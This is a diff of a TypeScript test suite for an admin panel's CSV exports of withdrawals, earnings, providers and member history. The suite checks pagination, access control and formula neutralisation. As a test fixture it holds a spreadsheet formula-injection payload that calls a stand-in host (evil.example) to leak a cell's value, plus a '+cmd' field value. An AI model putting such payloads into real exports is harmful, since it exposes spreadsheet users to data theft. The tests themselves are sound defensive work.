@@ -4,7 +4,7 @@ import { after, describe, it } from 'node:test';
 import { sql } from '#platform/database.ts';
 import { testSite } from './site.ts';
 
-/** Operators' lists as files for a spreadsheet. Members choose the names in them. */
+/** Operators' lists as CSV files. Members choose the names in them, so formulas must not reach a spreadsheet. */
 const site = await testSite({ after });
 const as = await site.member({ role: 'admin' });
 const evil = '=HYPERLINK("https://evil.example?"&A1,"open")';
@@ -19,7 +19,7 @@ const evilMember = async (options: Parameters<typeof site.member>[0]) => {
   return member;
 };
 
-/** The cells of a CSV text (RFC 4180), row by row. */
+/** The cells of a CSV text (RFC 4180), by row. */
 function cellsOf(text: string): string[][] {
   assert.ok(text.endsWith('\r\n'));
   const rows: string[][] = [[]];
@@ -45,7 +45,7 @@ function assertNoFormula(rows: string[][]): void {
 }
 
 describe('the operators’ withdrawals as CSV', () => {
-  it('have a header, every row past one page, and no cell that is a formula', async () => {
+  it('have a header, the rows of all pages, and no formulas', async () => {
     for (let members = 0; members < 21; members += 1) {
       const member = await evilMember({ balancePoints: 5_000n, isPhoneVerified: true });
       for (let requests = 0; requests < 5; requests += 1) {
@@ -77,18 +77,18 @@ describe('the operators’ withdrawals as CSV', () => {
     assert.ok(column('userName').includes(`'${evil}`));
     assert.ok(column('address').includes("'+cmd0@example.com"));
   });
-  it('are only the page that was asked for, where one was', async () => {
+  it('contain one page if one was requested', async () => {
     const { rows } = await exported('/api/admin/withdrawals-data?status=pending&format=csv&page=2&limit=10');
     assert.equal(rows.length, 10);
   });
-  it('have their header also where there is no row', async () => {
+  it('have a header without any row', async () => {
     const { header, rows } = await exported('/api/admin/withdrawals-data?q=nobody-at-all&format=csv');
     assert.deepEqual([header[0], header.includes('rejectionReason'), rows], ['id', true, []]);
   });
 });
 
-describe('the earnings that wait as CSV', () => {
-  it('have a header, every row, and no cell that is a formula', async () => {
+describe('the held earnings as CSV', () => {
+  it('have a header, every row, and no formulas', async () => {
     const member = await evilMember({});
     for (let transaction = 0; transaction < 3; transaction += 1) {
       const hash = createHash('md5').update(`9000${transaction}-${secret}`).digest('hex');
@@ -114,7 +114,7 @@ describe('the earnings that wait as CSV', () => {
 });
 
 describe('the providers as CSV', () => {
-  it('have a header, every row, masked secrets, and no cell that is a formula', async () => {
+  it('have a header, every row, masked secrets, and no formulas', async () => {
     const { header, rows, column } = await exported('/api/admin/providers?format=csv');
     assert.deepEqual(header.slice(0, 3), ['id', 'name', 'type']);
     const { n } = await site.owner.one<{ n: bigint }>(sql`select count(*) as n from earning.providers`);
@@ -127,7 +127,7 @@ describe('the providers as CSV', () => {
 
 describe('CSV of operators', () => {
   for (const path of ['withdrawals-data', 'pending-earnings', 'providers'])
-    it(`of ${path} is theirs alone`, async () => {
+    it(`is refused to members: ${path}`, async () => {
       const url = `/api/admin/${path}?format=csv`;
       const [visitor, member] = [
         await site.call('GET', url),
@@ -139,7 +139,7 @@ describe('CSV of operators', () => {
 });
 
 describe('a member’s own history as CSV', () => {
-  it('holds every movement of theirs and nobody else’s', async () => {
+  it('contains all of the member’s movements and no others', async () => {
     const [member] = [await site.member({ balancePoints: 500n }), await site.member({ balancePoints: 7n })];
     const { status, headers, body } = await site.call('GET', '/api/user/history?format=csv', { as: member });
     assert.equal(status, 200);
